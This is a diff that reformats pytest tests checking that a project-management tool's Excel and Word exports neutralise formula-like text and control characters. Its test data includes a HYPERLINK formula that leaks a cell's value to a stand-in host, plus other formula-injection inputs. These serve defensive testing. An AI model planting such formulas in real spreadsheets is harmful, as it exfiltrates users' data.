@@ -24,23 +24,33 @@ LEAK = '=HYPERLINK("http://example.invalid/?leak="&B2,"Details")'
 
 
 def _formula_cells(path: Path) -> list[str]:
-    return [f"{ws.title}!{c.coordinate}: {c.value}" for ws in load_workbook(path)
-            for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    return [
+        f"{ws.title}!{c.coordinate}: {c.value}"
+        for ws in load_workbook(path)
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
 
 
 def _texts(path: Path) -> set[str]:
-    return {c.value for ws in load_workbook(path) for row in ws.iter_rows() for c in row
-            if isinstance(c.value, str)}
+    return {
+        c.value
+        for ws in load_workbook(path)
+        for row in ws.iter_rows()
+        for c in row
+        if isinstance(c.value, str)
+    }
 
 
 def test_a_title_like_a_formula_stays_text_in_the_measure_list_and_milestone_plan(
-        demo_ws, tmp_path: Path) -> None:
+    demo_ws, tmp_path: Path
+) -> None:
     with demo_ws.session() as s:
         mid = s.scalars(select(Measure.id).where(Measure.code == "P-01")).one()
         milestone = s.scalars(select(Milestone.id).where(Milestone.measure_id == mid)).first()
     execute(demo_ws, "titel", measures.update_measure, mid, {"title": LEAK})
-    execute(demo_ws, "meilenstein", items.update_item, Milestone, milestone,
-            {"title": "=1+1"})
+    execute(demo_ws, "meilenstein", items.update_item, Milestone, milestone, {"title": "=1+1"})
     for kind in ("massnahmenliste", "meilensteinplan", "indikatoren"):
         path = run_export(demo_ws, ExportRequest(kind, tmp_path / f"{kind}.xlsx"))
         assert _formula_cells(path) == [], kind
@@ -49,12 +59,17 @@ def test_a_title_like_a_formula_stays_text_in_the_measure_list_and_milestone_pla
 
 
 def test_receipt_texts_like_formulas_stay_text_and_the_sums_stay_formulas(
-        example, tmp_path: Path) -> None:  # noqa: F811
+    example,  # noqa: F811 - the fixture
+    tmp_path: Path,
+) -> None:
     ws, grant_id = example
     with ws.engine.begin() as conn:  # as a finance system's export might bring them
         first = conn.execute(select(Receipt.__table__.c.id).limit(1)).scalar_one()
-        conn.execute(update(Receipt.__table__).where(Receipt.__table__.c.id == first)
-                     .values(number="=2+3", payee=LEAK, purpose="=A1"))
+        conn.execute(
+            update(Receipt.__table__)
+            .where(Receipt.__table__.c.id == first)
+            .values(number="=2+3", payee=LEAK, purpose="=A1")
+        )
     path = run_export(ws, ExportRequest("belegliste", tmp_path / "belege.xlsx", grant_id=grant_id))
     formulas = _formula_cells(path)
     sums = re.compile(r"Belege!([G-J])\d+: =(SUM\(\1\d+:\1\d+\)|\1\d+(\+\1\d+)*)")
@@ -71,11 +86,15 @@ def test_a_control_character_is_refused_on_input(demo_ws) -> None:
     assert code == 1 and "Steuerzeichen" in err
 
 
-def test_a_control_character_already_stored_never_breaks_a_word_export(demo_ws,
-                                                                        tmp_path: Path) -> None:
+def test_a_control_character_already_stored_never_breaks_a_word_export(
+    demo_ws, tmp_path: Path
+) -> None:
     with demo_ws.engine.begin() as conn:  # stored before the check existed, or by a bug
-        conn.execute(update(Measure.__table__).where(Measure.__table__.c.code == "P-01")
-                     .values(title="Kiez\x0bbox\x00 2.0"))
+        conn.execute(
+            update(Measure.__table__)
+            .where(Measure.__table__.c.code == "P-01")
+            .values(title="Kiez\x0bbox\x00 2.0")
+        )
     with demo_ws.session() as s:
         mid = s.scalars(select(Measure.id).where(Measure.code == "P-01")).one()
     for kind in ("steckbrief", "strategiebericht", "statusbericht", "projektauftrag"):
